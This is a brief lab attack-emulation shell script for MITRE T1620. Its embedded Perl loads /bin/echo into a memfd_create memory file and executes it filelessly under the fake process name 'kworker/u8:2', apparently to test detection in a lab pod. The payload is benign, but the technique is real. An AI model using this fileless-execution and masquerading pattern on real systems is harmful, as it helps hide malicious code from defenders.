#!/bin/sh
# Lab attack scenario: memfd-exec (T1620). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
perl -e '
  my $name = "lab";
  my $fd = syscall(319, $name, 0);  # memfd_create("lab", 0)
  die "memfd_create failed: $!\n" if $fd < 0;
  open(my $src, "<:raw", "/bin/echo") or die "open: $!\n";
  local $/; my $bin = <$src>;
  open(my $m, ">&=", $fd) or die "fdopen: $!\n";
  syswrite($m, $bin) == length($bin) or die "write: $!\n";
  exec {"/proc/self/fd/$fd"} "kworker/u8:2", "fileless execution from memfd" or die "exec: $!\n";
'
